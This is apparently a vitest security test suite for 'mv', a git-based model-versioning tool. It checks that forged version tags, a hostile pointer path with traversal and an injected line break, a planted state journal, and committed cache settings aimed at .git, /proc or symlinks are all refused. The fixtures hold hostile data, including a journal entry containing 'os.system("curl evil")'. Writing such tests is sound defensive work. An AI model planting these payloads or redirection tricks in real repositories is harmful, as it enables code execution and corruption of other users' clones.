/**
 * A version tag is trusted only as far as its commit agrees with it: a tag on a commit whose pointer is
 * another version's, or another artifact's, or none, is never resolved as that version's files, and
 * `verify` and `show` say so. Committed files cannot pose as mv's own state or send its cache elsewhere.
 */
import { mkdir, readdir, stat, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { add } from '../../src/commands/add.js';
import { checkout } from '../../src/commands/checkout.js';
import { pull } from '../../src/commands/fetch.js';
import { get } from '../../src/commands/get.js';
import { show } from '../../src/commands/show.js';
import { status } from '../../src/commands/status.js';
import { verify } from '../../src/commands/verify.js';
import { tempDir } from '../helpers/git-repo.js';
import { cli, mv } from '../helpers/mv-cli.js';
import { attackBranch, commitRaw, expectUnchanged, handTag, publish, scene, snapshotTree, victim, type Scene } from './attack.js';

let s: Scene;
beforeAll(async () => {
  s = await scene();
}, 60_000);

/** A tag `name` on the attacker's current HEAD, with a message in mv's payload format copied from a real registration. */
async function forgedVersionTag(name: string, artifact: string, version: string): Promise<void> {
  const real = await s.attacker.git('cat-file', '-p', 'refs/tags/churn@v0.1.0');
  const payload = real.slice(real.indexOf('\n\n') + 2).replace(/churn@v0\.1\.0/g, `${artifact}@v${version}`).replace(/"version":"0\.1\.0"/, `"version":"${version}"`).replace(/"artifact":"churn"/, `"artifact":"${artifact}"`);
  await handTag(s.attacker, name, 'HEAD', payload);
}

describe('version tags that do not match their commit', () => {
  it('a tag churn@v3.0.0 on the commit of churn@v0.1.0: never used as v3.0.0; verify, show and checkout say why', async () => {
    await attackBranch(s, 'moved-tag');
    await s.attacker.git('checkout', '-q', 'churn@v0.1.0');
    await forgedVersionTag('churn@v3.0.0', 'churn', '3.0.0');
    await s.attacker.git('checkout', '-q', 'moved-tag');
    await publish(s);
    const repo = await victim(s, 'moved-tag');
    await expect(checkout({ cwd: repo.dir, ref: 'churn@v3.0.0' })).rejects.toMatchObject({ code: 'POINTER_MISMATCH', message: expect.stringContaining('records version 0.1.0, not 3.0.0') });
    await expect(pull({ cwd: repo.dir, refs: ['churn@v3.0.0'] })).rejects.toMatchObject({ code: 'POINTER_MISMATCH' });
    const out = join(await tempDir('mv-get-'), 'deploy');
    await expect(get({ cwd: repo.dir, ref: 'churn@v3.0.0', output: out })).rejects.toMatchObject({ code: 'POINTER_MISMATCH' });
    await expect(stat(join(out, 'mv.lock.json'))).rejects.toThrow();
    const verdict = await verify({ cwd: repo.dir });
    expect(verdict.ok).toBe(false);
    expect(verdict.mismatched).toEqual([expect.objectContaining({ id: 'churn@v3.0.0', tag: 'churn@v3.0.0' })]);
    expect(verdict.problems.join('\n')).toContain('mismatched: The tag churn@v3.0.0');
    const shown = await show({ cwd: repo.dir, ref: 'churn@v3.0.0' });
    expect(shown.notes.join('\n')).toContain('records version 0.1.0, not 3.0.0');
    expect(shown.kind === 'version' && shown.version.pointer).toBe(null);
    const run = await cli(repo.dir, ['verify']);
    expect(run.exitCode).toBe(1);
    expect(run.stdout + run.stderr).toContain('churn@v3.0.0');
  });

  it('a hand-written tag without mv\'s payload, on another version\'s commit: the same', async () => {
    await attackBranch(s, 'plain-tag');
    await handTag(s.attacker, 'churn@v4.0.0', 'churn@v0.1.0^{commit}', 'a release');
    await publish(s);
    const repo = await victim(s, 'plain-tag');
    await expect(checkout({ cwd: repo.dir, ref: 'churn@v4.0.0' })).rejects.toMatchObject({ code: 'POINTER_MISMATCH' });
    expect((await verify({ cwd: repo.dir })).mismatched.map((m) => m.id)).toContain('churn@v4.0.0');
  });

  it('a tag of another artifact on churn\'s commit: it has no pointer there, and nothing of churn is used', async () => {
    await attackBranch(s, 'other-artifact');
    await forgedVersionTag('fraud@v1.0.0', 'fraud', '1.0.0');
    await publish(s);
    const repo = await victim(s, 'other-artifact');
    await expect(checkout({ cwd: repo.dir, ref: 'fraud@v1.0.0' })).rejects.toMatchObject({ code: 'NO_POINTER' });
    const shown = await show({ cwd: repo.dir, ref: 'fraud@v1.0.0' });
    expect(shown.notes.join('\n')).toContain('has no fraud pointer');
  });

  it('a tag payload whose pointer path is hostile (a parent path, a line break): no crash, nothing read there', async () => {
    await attackBranch(s, 'bad-hint');
    const commit = (await s.attacker.git('rev-parse', 'HEAD')).trim();
    await handTag(s.attacker, 'churn@v5.0.0', commit, `Register churn@v5.0.0\n\n{"mv":1,"event":"register","artifact":"churn","version":"5.0.0","pointer":{"path":"../../.git/x.mv.yaml\\nHEAD:models/churn/churn.mv.yaml","oid":"sha256:${'0'.repeat(64)}"}}`);
    await publish(s);
    const repo = await victim(s, 'bad-hint');
    await expect(checkout({ cwd: repo.dir, ref: 'churn@v5.0.0' })).rejects.toMatchObject({ code: expect.stringMatching(/NO_POINTER|POINTER_MISMATCH/) });
    const run = await cli(repo.dir, ['show', 'churn@v5.0.0']);
    expect(run.stderr).not.toContain('internal error');
  });
});

describe('committed files cannot pose as mv\'s state or move its cache', () => {
  it('a journal committed where older versions kept state (.mv/state/) is ignored: nothing is "restored"', async () => {
    await attackBranch(s, 'planted-journal');
    const journal = { pid: 999_999, files: [{ repoPath: 'src/preprocess.py', previous: 'import os; os.system("curl evil")\n' }, { repoPath: 'notes.txt' }] };
    await commitRaw(s.attacker, [{ path: '.mv/state/edits-999999-1.json', content: JSON.stringify(journal) }], 'state');
    await publish(s);
    const repo = await victim(s, 'planted-journal');
    await pull({ cwd: repo.dir });
    await writeFile(join(repo.dir, 'notes.txt'), 'my notes\n');
    const tree = await snapshotTree(join(repo.dir, 'src'));
    await writeFile(join(repo.dir, 'models/churn/model.pt'), 'retrained');
    await add({ cwd: repo.dir, name: 'churn', paths: ['models/churn/model.pt', 'models/churn/tokenizer/'], data: ['src'], drop: ['data/train'], pipeline: ['src/preprocess.py'] });
    await expectUnchanged(join(repo.dir, 'src'), tree);
    expect(await readdir(repo.dir)).toContain('notes.txt');
  });

  it.each([
    ['inside .git', '.git'],
    ['git\'s object store', '.git/objects'],
    ['among the work tree\'s files', 'src'],
  ])('cache.dir %s in the committed config is refused, and nothing is written there', async (_what, dir) => {
    await attackBranch(s, `cache-${dir.replace(/\W/g, '-')}`);
    const config = (await s.attacker.read('.mv/config.yaml')).replace(/dir: \.mv\/cache/, `dir: ${dir}`);
    await commitRaw(s.attacker, [{ path: '.mv/config.yaml', content: config }], 'a new cache');
    await publish(s);
    const repo = await victim(s, `cache-${dir.replace(/\W/g, '-')}`);
    const before = await snapshotTree(join(repo.dir, dir));
    await expect(pull({ cwd: repo.dir })).rejects.toMatchObject({ code: 'INVALID_CONFIG', message: expect.stringContaining('cache.dir') });
    await expect(status({ cwd: repo.dir })).rejects.toMatchObject({ code: 'INVALID_CONFIG' });
    await expectUnchanged(join(repo.dir, dir), before);
  });

  it.each([
    ['the git directory', '/proc/self/cwd/.git'],
    ['the work tree', '/proc/self/cwd'],
  ])('cache.dir through /proc/self/cwd (%s) is refused by the mvr a victim runs in the clone, and nothing is written', async (what, dir) => {
    const branch = `cache-proc-${what.replace(/\W/g, '-')}`;
    await attackBranch(s, branch);
    const config = (await s.attacker.read('.mv/config.yaml')).replace(/dir: \.mv\/cache/, `dir: ${dir}`);
    await commitRaw(s.attacker, [{ path: '.mv/config.yaml', content: config }], 'cache settings');
    await publish(s);
    const repo = await victim(s, branch);
    const before = await snapshotTree(repo.dir);
    const run = await mv(repo.dir, ['pull']);
    expect(run.exitCode).toBe(1);
    expect(run.stderr).toContain(`error: cache.dir (${dir}, from .mv/config.yaml) is under /proc`);
    await expectUnchanged(repo.dir, before);
  });

  it('a link elsewhere that leads into the clone is resolved before the rules apply', async () => {
    await attackBranch(s, 'cache-link');
    const shortcut = join(await tempDir('mv-links-'), 'shortcut');
    const config = (await s.attacker.read('.mv/config.yaml')).replace(/dir: \.mv\/cache/, `dir: ${shortcut}/.git`);
    await commitRaw(s.attacker, [{ path: '.mv/config.yaml', content: config }], 'a shared cache');
    await publish(s);
    const repo = await victim(s, 'cache-link');
    await symlink(repo.dir, shortcut);
    const before = await snapshotTree(join(repo.dir, '.git'));
    await expect(pull({ cwd: repo.dir })).rejects.toMatchObject({ code: 'INVALID_CONFIG', message: expect.stringContaining(`is inside the git directory`) });
    await expectUnchanged(join(repo.dir, '.git'), before);
  });

  it('in a linked work tree, cache.dir naming the main clone\'s git directory is refused', async () => {
    await attackBranch(s, 'cache-common');
    const config = (await s.attacker.read('.mv/config.yaml')).replace(/dir: \.mv\/cache/, 'dir: ../project/.git');
    await commitRaw(s.attacker, [{ path: '.mv/config.yaml', content: config }], 'a shared cache');
    await publish(s);
    const repo = await victim(s, 'cache-common');
    const linked = join(dirname(repo.dir), 'feature');
    await repo.git('worktree', 'add', '-q', '-b', 'feature', linked);
    const before = await snapshotTree(join(repo.dir, '.git/objects'));
    await expect(pull({ cwd: linked })).rejects.toMatchObject({ code: 'INVALID_CONFIG', message: expect.stringContaining(`is inside the git directory ${join(repo.dir, '.git')}`) });
    await expectUnchanged(join(repo.dir, '.git/objects'), before);
  });

  it('a shared cache named by the committed config is used only if it exists: mv never creates it', async () => {
    await attackBranch(s, 'cache-elsewhere');
    const elsewhere = join(await tempDir('mv-elsewhere-'), 'not-yet');
    const config = (await s.attacker.read('.mv/config.yaml')).replace(/dir: \.mv\/cache/, `dir: ${elsewhere}`);
    await commitRaw(s.attacker, [{ path: '.mv/config.yaml', content: config }], 'a shared cache');
    await publish(s);
    const repo = await victim(s, 'cache-elsewhere');
    await expect(pull({ cwd: repo.dir })).rejects.toMatchObject({ code: 'CACHE_MISSING' });
    await expect(stat(elsewhere)).rejects.toThrow();
    // Made by the user (it is their machine's share), it is used.
    await mkdir(elsewhere);
    await pull({ cwd: repo.dir });
    expect((await readdir(join(elsewhere, 'objects'))).length).toBeGreaterThan(0);
  });
});
